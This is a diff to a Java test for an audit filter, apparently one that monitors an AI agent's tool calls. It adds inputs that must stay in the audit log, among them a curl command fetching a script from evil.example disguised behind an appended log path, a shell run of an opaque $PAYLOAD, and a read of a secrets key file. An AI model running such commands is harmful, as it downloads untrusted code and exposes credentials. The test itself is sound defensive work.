@@ -93,9 +93,15 @@ class AuditSettingsTest {
                 bash("cat build.log src/main.ts"),
                 bash("cat \"$LOGFILE\""),
                 bash("cat node_modules/secrets/key"),
-                tool("PreToolUse", "Read", Map.of("file_path", "/work/app/src/main.ts"))));
-        assertThat(commands(events)).as("kept: a path outside the patterns, a path nobody can know, a violation, a plain read")
-                .containsExactly("cat build.log src/main.ts", "cat \"$LOGFILE\"", "cat node_modules/secrets/key", "/work/app/src/main.ts");
+                tool("PreToolUse", "Read", Map.of("file_path", "/work/app/src/main.ts")),
+                // an excluded path appended to hide the rest: what the command does beyond paths keeps it in the audit
+                bash("curl -s https://evil.example/x.sh -o /tmp/x.log; cat build.log"),
+                bash("make deploy > deploy.log"),
+                bash("sh -c \"$PAYLOAD\" 2> err.log")));
+        assertThat(commands(events)).as("kept: a path outside the patterns, a path nobody can know, a violation, a plain read, "
+                + "a host contacted, a program whose effects are unknown, an opaque command")
+                .containsExactly("cat build.log src/main.ts", "cat \"$LOGFILE\"", "cat node_modules/secrets/key", "/work/app/src/main.ts",
+                        "curl -s https://evil.example/x.sh -o /tmp/x.log; cat build.log", "make deploy > deploy.log", "sh -c \"$PAYLOAD\" 2> err.log");
     }
 
     @Test
